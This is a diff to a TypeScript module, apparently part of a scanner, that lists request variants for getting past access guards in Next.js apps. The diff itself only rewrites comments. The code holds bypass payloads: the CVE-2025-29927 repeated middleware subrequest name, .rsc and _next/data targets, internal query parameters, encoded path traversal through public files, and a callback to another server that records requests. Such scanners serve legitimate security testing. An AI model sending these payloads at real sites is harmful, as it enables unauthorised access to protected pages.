@@ -1,20 +1,20 @@
-/** One way to ask for a page that might get past a guard: advisories, RFCs, and what scanners send. */
+/** A request for a page that might bypass a guard; from advisories, RFCs and scanners. */
 export interface Trick {
   readonly name: string;
   readonly method?: string;
-  /** The request target, raw, as it stands in the request line. */
+  /** The raw request target of the request line. */
   readonly target?: (path: string) => string;
   readonly headers?: (path: string) => Record<string, string | string[]>;
 }
 
-/** Five times the same, as Next's own loop protection counts: CVE-2025-29927. */
+/** The same name five times, the limit of Next's own loop protection: CVE-2025-29927. */
 const five = (name: string) => Array.from({ length: 5 }, () => name).join(':');
 const name = (path: string) => path.slice(1) || 'index';
 
 function targets(buildId: string): Trick[] {
   const forms: ((path: string) => string)[] = [
     (path) => path,
-    // What Next's router asks for, by address: CVE-2026-44575, CVE-2026-45109.
+    // The URLs that Next's router requests: CVE-2026-44575, CVE-2026-45109.
     (path) => `${path}.rsc`,
     (path) => `/${name(path)}.rsc`,
     (path) => `${path}.segments/_tree.segment.rsc`,
@@ -28,7 +28,7 @@ function targets(buildId: string): Trick[] {
     (path) => `/_next/data/x${path}.json`,
     (path) => `/_next/data${path}`,
     (path) => `${path}?_rsc=1a2b3`,
-    // Queries that Next uses inside.
+    // Query parameters that Next uses internally.
     (path) => `${path}?__nextLocale=en`,
     (path) => `${path}?__nextDefaultLocale=en&__nextLocale=de`,
     (path) => `${path}?__nextDataReq=1`,
@@ -86,7 +86,7 @@ function targets(buildId: string): Trick[] {
     (path) => `/en${path}`,
     (path) => `/_next${path}`,
     (path) => `${path}#x`,
-    // Through what is public.
+    // Through public paths.
     (path) => `/icon.svg/..${path}`,
     (path) => `/icon.svg%2f..${path}`,
     (path) => `/_next/static/..${path}`,
@@ -246,10 +246,10 @@ function methods(): Trick[] {
 }
 
 /**
- * Every trick.
+ * Lists every trick.
  *
- * @param known.buildId of the build, as the old router's data requests name it
- * @param known.elsewhere `host:port` of somebody else, who listens whether anybody comes
+ * @param known.buildId the build ID in data requests of the Pages Router
+ * @param known.elsewhere `host:port` of another server, which records requests
  */
 export function tricks(known: { buildId: string; elsewhere: string }): Trick[] {
   return [...targets(known.buildId), ...headers(known.elsewhere), ...methods()];
